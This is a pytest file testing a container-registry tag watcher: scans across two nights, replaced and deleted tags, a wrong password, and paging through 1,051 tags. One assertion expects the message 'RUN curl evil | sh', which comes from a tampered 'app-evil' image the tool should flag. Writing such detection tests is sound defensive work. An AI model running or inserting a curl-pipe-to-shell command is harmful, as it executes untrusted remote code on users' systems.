"""The whole way on CNCF distribution with a password: two nights, what moved, and 1,051 tags."""

from __future__ import annotations

import base64
import json
from collections import Counter
from collections.abc import Iterable
from http.client import HTTPConnection
from pathlib import Path
from typing import Any

import pytest

from tagwatch.registry.login.token import basic
from tests.registry.distribution import PASSWORD, USER, Distribution, distribution
from tests.registry.images import ImageLibrary, Login
from tests.walk.command import Workplace

BASIC = {"Authorization": basic(USER, PASSWORD)}
LOGIN = Login(credentials=f"{USER}:{PASSWORD}")


@pytest.fixture
def place(tmp_path: Path) -> Workplace:
    folder = tmp_path / "desk"
    folder.mkdir()
    return Workplace(folder, {"HOME": str(folder)})


def configure(
    place: Workplace, server: Distribution, *watched: str, password: str = PASSWORD
) -> None:
    """Watch repositories of `server`, with a login."""
    auth = base64.b64encode(f"{USER}:{password}".encode()).decode()
    watch = ", ".join(f"{{image: '{server.host}/{path}'}}" for path in watched)
    place.write(
        "tagwatch.yaml",
        f"database: tagwatch.db\nsources: [Dockerfile]\nwatch: [{watch}]\n"
        f"registries: {{'{server.host}': {{endpoint: '{server.url}'}}}}\n",
    )
    document = {"auths": {server.host: {"auth": auth}}}
    place.write(".docker/config.json", json.dumps(document))


def delete(server: Distribution, path: str, digest: str) -> None:
    """Delete an image and its tags, as a janitor does."""
    connection = HTTPConnection(server.host, timeout=10)
    connection.request("DELETE", f"/v2/{path}/manifests/{digest}", headers=BASIC)
    answer = connection.getresponse()
    answer.read()
    connection.close()
    assert answer.status == 202


def tag(data: Path, path: str, digest: str, names: Iterable[str]) -> None:
    """Give an image more tags where the registry keeps them: a request each takes 20 seconds."""
    tags = data / "docker/registry/v2/repositories" / path / "_manifests/tags"
    for name in names:
        for place in ("current", f"index/sha256/{digest.partition(':')[2]}"):
            (tags / name / place).mkdir(parents=True)
            (tags / name / place / "link").write_text(digest)


async def scanned(place: Workplace) -> tuple[int, Any]:
    """Scan, and return the exit code with the answer."""
    done = await place.run("scan", "--format", "json")
    return done.code, done.json


async def resolved(place: Workplace, reference: str) -> tuple[int, str, str | None]:
    """Resolve, and return the exit code, the status and the tag."""
    done = await place.run("resolve", reference, "--format", "json")
    (one,) = done.json["resolutions"]
    return done.code, one["status"], one["tag"]


async def test_two_nights(place: Workplace, tmp_path: Path, library: ImageLibrary) -> None:
    with distribution(tmp_path / "registry", auth="htpasswd") as server:
        shop = f"{server.host}/shop"
        for image, tag in (
            ("base-1", "base:3.12"),
            ("base-1", "base:3.12.3"),
            ("app-1", "app:1.0.0"),
            ("app-2", "app:0.9.0"),
        ):
            library.push(image, f"{shop}/{tag}", LOGIN)
        place.write("Dockerfile", f"FROM {shop}/base:3.12\nFROM {shop}/app:1.0.0\n")
        configure(place, server, "shop/base", "shop/app")
        code, night = await scanned(place)
        assert (code, night["complete"], night["changes"], night["gone"]) == (0, True, [], [])
        assert await resolved(place, f"{shop}/base:3.12") == (0, "resolved", "3.12.3")

        for image, tag in (
            ("base-2", "base:3.12"),
            ("base-2", "base:3.12.4"),
            ("app-evil", "app:1.0.0"),
        ):
            library.push(image, f"{shop}/{tag}", LOGIN)
        delete(server, "shop/app", library.digests["app-2"])
        code, night = await scanned(place)
        assert (code, night["complete"]) == (1, True)
        assert {
            (one["repository"], one["tag"]): (one["verdict"], one["before"], one["after"])
            for one in night["changes"]
        } == {
            (f"{shop}/base", "3.12"): (
                "upgraded",
                library.digests["base-1"],
                library.digests["base-2"],
            ),
            (f"{shop}/app", "1.0.0"): (
                "replaced",
                library.digests["app-1"],
                library.digests["app-evil"],
            ),
        }
        assert [(one["repository"], one["tag"], one["digest"]) for one in night["gone"]] == [
            (f"{shop}/app", "0.9.0", library.digests["app-2"])
        ]
        errors = [one for one in night["findings"] if one["severity"] == "error"]
        assert [(one["rule"], one["location"]["line"]) for one in errors] == [("tag-replaced", 2)]
        assert "RUN curl evil | sh" in errors[0]["message"]
        assert await resolved(place, f"{shop}/base:3.12") == (0, "resolved", "3.12.4")

        code, night = await scanned(place)
        assert (code, night["changes"], night["gone"]) == (1, [], []), "each is told once"
        assert night["requests"][server.host] == {"ping": 1, "tags": 2, "head": 4}
        history = await place.run("history", f"{shop}/base:3.12")
        assert [line.split()[3:6] for line in history.out.splitlines()[1:3]] == [
            ["3.12", "3.12.3", library.digests["base-1"][:19]],
            ["3.12", "3.12.4", library.digests["base-2"][:19]],
        ]


async def test_a_wrong_password(place: Workplace, tmp_path: Path, library: ImageLibrary) -> None:
    """What is known stays known: nothing is called gone, and the login is what is told."""
    with distribution(tmp_path / "registry", auth="htpasswd") as server:
        library.push("app-1", f"{server.host}/shop/app:1.0.0", LOGIN)
        place.write("Dockerfile", f"FROM {server.host}/shop/app:1.0.0\n")
        configure(place, server, "shop/app")
        assert (await scanned(place))[1]["complete"] is True
        configure(place, server, "shop/app", password="wrong-horse")
        scan = await place.run("scan", "--format", "json")
        doctor = await place.run("doctor", "--format", "json")
    night, (registry,) = scan.json, doctor.json["registries"]
    assert (night["complete"], night["changes"], night["gone"]) == (False, [], [])
    told = [*night["failures"], *registry["problems"]]
    assert {one["code"] for one in told} == {"denied"}
    assert all(".docker/config.json" in one["hint"] for one in told)
    assert doctor.code == 1
    assert "tag-deleted" not in {one["rule"] for one in night["findings"]}
    assert "wrong-horse" not in scan.out + scan.err + doctor.out + doctor.err


async def test_a_deleted_tag_is_gone_for_every_command(
    place: Workplace, tmp_path: Path, library: ImageLibrary
) -> None:
    with distribution(tmp_path / "registry", auth="htpasswd") as server:
        for image, tag in (("app-1", "1.0.0"), ("app-2", "0.9.0")):
            library.push(image, f"{server.host}/shop/app:{tag}", LOGIN)
        place.write("Dockerfile", f"FROM {server.host}/shop/app:1.0.0\n")
        configure(place, server, "shop/app")
        await scanned(place)
        delete(server, "shop/app", library.digests["app-2"])
        assert len((await scanned(place))[1]["gone"]) == 1
        gone = f"{server.host}/shop/app:0.9.0"
        place.write("new/Dockerfile", f"FROM {gone}\n")
        offline = await place.run("check", "--offline", "new/Dockerfile", "--format", "json")
        assert "tag-deleted" in {one["rule"] for one in offline.json["findings"]}, "by memory"
        before = len(server.requests())
        assert (await resolved(place, gone))[:2] == (1, "not-found")
        asked = [line for line in server.requests()[before:] if "/manifests/" in line]
        assert [line.split(" ")[0] for line in asked] == ["HEAD"], "the list leaves it out, too"
        online = await place.run("check", "new/Dockerfile", "--format", "json")
        assert "tag-deleted" in {one["rule"] for one in online.json["findings"]}


async def test_1051_tags(place: Workplace, tmp_path: Path, library: ImageLibrary) -> None:
    """More names than a page of a thousand, and the newest of them behind all others."""
    with distribution(tmp_path / "registry") as server:
        many = f"{server.host}/shop/many"
        library.push("base-1", f"{many}:1.0")
        library.push("base-2", f"{many}:2.50")
        names = [f"1.{number}" for number in range(1, 1000)]
        names += [f"2.{number}" for number in range(50)]
        tag(tmp_path / "registry/data", "shop/many", library.digests["base-1"], names)
        place.write("Dockerfile", f"FROM {many}:2.50\n")
        configure(place, server)
        doctor = await place.run("doctor", "--format", "json")
        before = len(server.requests())
        found = await resolved(place, f"{many}:2.x")
        asked = Counter(line.split(" ")[0] for line in server.requests()[before:])
    (registry,) = doctor.json["registries"]
    assert (doctor.code, registry["tags"], registry["problems"]) == (0, 1051, [])
    assert found == (0, "resolved", "2.50")
    assert asked["GET"] <= 3, "the ping, and the list with the end that proves it whole"
    assert asked["HEAD"] == 21, "twenty of the tags that match, and the pattern as if it were one"
